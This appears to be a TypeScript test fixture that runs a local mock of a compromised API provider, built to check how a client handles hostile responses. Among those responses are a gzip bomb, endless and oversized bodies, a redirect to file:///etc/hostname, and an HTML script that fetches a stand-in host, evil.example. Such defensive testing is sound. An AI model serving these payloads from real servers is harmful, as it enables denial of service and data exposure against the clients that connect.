/**
 * A provider that was broken into: a server that answers one path with what it likes, and all others as
 * usual; and a second one that secrets are to be sent on to.
 * @module
 */
import { createServer } from 'node:http'
import type { IncomingMessage, Server, ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import { gzipSync } from 'node:zlib'
import { usualAnswer } from './order-samples.ts'
import type { ProviderName } from './order-samples.ts'

/** Stands in every hostile text. */
export const CANARY = 'HOSTILE-CANARY'

export interface HostileServer {
  readonly url: string
  /** What arrived at the other origin. */
  readonly elsewhere: string[]
  /** Bytes that an endless answer got rid of, the most of all. */
  readonly sent: { most: number }
  play(provider: ProviderName, path: RegExp, answer: Answer): void
  close(): Promise<void>
}

export type Answer = (response: ServerResponse, server: HostileServer) => void

const JSON_TYPE = { 'content-type': 'application/json' }
const MEGABYTE = 2 ** 20
let bomb: Buffer | undefined

const redirect =
  (status: number): Answer =>
  (response, { elsewhere, url }) => {
    void elsewhere
    response.writeHead(status, { location: `${url}/elsewhere?${CANARY}` }).end()
  }

/** Writes until nobody reads any more. */
function pour(response: ServerResponse, server: HostileServer, chunk: string): void {
  let sent = 0
  const more = (): void => {
    while (!response.destroyed && response.write(chunk)) {
      sent += chunk.length
      server.sent.most = Math.max(server.sent.most, sent)
    }
  }
  response.on('drain', more)
  more()
}

/** Ways that an answer can be no answer on the wire. */
export const WIRE: Readonly<Record<string, Answer>> = {
  ...Object.fromEntries(
    [301, 302, 303, 307, 308].map((code) => [`redirect ${code}`, redirect(code)]),
  ),
  'redirect to a file': (response) =>
    void response.writeHead(302, { location: 'file:///etc/hostname' }).end(),
  'four gigabytes': (response, server) => {
    response.writeHead(200, { ...JSON_TYPE, 'content-length': String(4 * 1024 * MEGABYTE) })
    pour(response, server, ' '.repeat(64 * 1024))
  },
  'an endless text of JSON': (response, server) => {
    response.writeHead(200, JSON_TYPE).write(`{"${CANARY}":"`)
    pour(response, server, 'x'.repeat(64 * 1024))
  },
  'a bomb of gzip': (response) => {
    bomb ??= gzipSync(Buffer.alloc(64 * MEGABYTE, ' '))
    response.writeHead(200, { ...JSON_TYPE, 'content-encoding': 'gzip' }).end(bomb)
  },
  'gzip that is none': (response) =>
    void response.writeHead(200, { ...JSON_TYPE, 'content-encoding': 'gzip' }).end(CANARY),
  'brotli that is none': (response) =>
    void response.writeHead(200, { ...JSON_TYPE, 'content-encoding': 'br' }).end(CANARY),
  'headers without end': (response) =>
    void response.writeHead(200, { ...JSON_TYPE, 'x-large': CANARY.repeat(10_000) }).end('{}'),
  'less than it said': (response) => {
    response.writeHead(200, { ...JSON_TYPE, 'content-length': '1000' }).write(`{"a":"${CANARY}`)
    setTimeout(() => response.destroy(), 10)
  },
  'html with 200': (response) =>
    void response
      .writeHead(200, { 'content-type': 'text/html' })
      .end(`<!doctype html><script>fetch('//evil.example/${CANARY}')</script>`),
}

/** Answers that take until somebody gives up. */
export const SLOW: Readonly<Record<string, Answer>> = {
  'a byte now and then': (response) => {
    response.writeHead(200, JSON_TYPE)
    const timer = setInterval(() => response.write(' '), 200)
    response.on('close', () => clearInterval(timer))
  },
  'no answer': () => undefined,
}

export async function startHostileServer(): Promise<HostileServer> {
  const plays = new Map<string, { readonly path: RegExp; readonly answer: Answer }>()
  const elsewhere: string[] = []

  const other = await listen((request, response) => {
    elsewhere.push(`${request.url} ${JSON.stringify(request.headers)}`)
    response.end('{}')
  })
  const main = await listen((request, response) => {
    const [, provider = '', path = ''] = /^\/([a-z]+)(\/[^?]*)/.exec(request.url ?? '') ?? []
    const play = plays.get(provider)
    request.resume()
    if (play?.path.test(path)) {
      play.answer(response, { ...hostile, url: other.url })
      return
    }
    response.writeHead(200, JSON_TYPE)
    response.end(JSON.stringify(usualAnswer(provider as ProviderName, path) ?? {}))
  })

  const hostile: HostileServer = {
    url: main.url,
    elsewhere,
    sent: { most: 0 },
    play: (provider, path, answer) => void plays.set(provider, { path, answer }),
    close: async () => {
      for (const { server } of [main, other]) {
        server.closeAllConnections()
        await new Promise((resolve) => server.close(resolve))
      }
    },
  }
  return hostile
}

function listen(
  handle: (request: IncomingMessage, response: ServerResponse) => void,
): Promise<{ server: Server; url: string }> {
  const server = createServer(handle)
  return new Promise((resolve) => {
    server.listen(0, 'localhost', () => {
      const { port } = server.address() as AddressInfo
      resolve({ server, url: `http://localhost:${port}` })
    })
  })
}
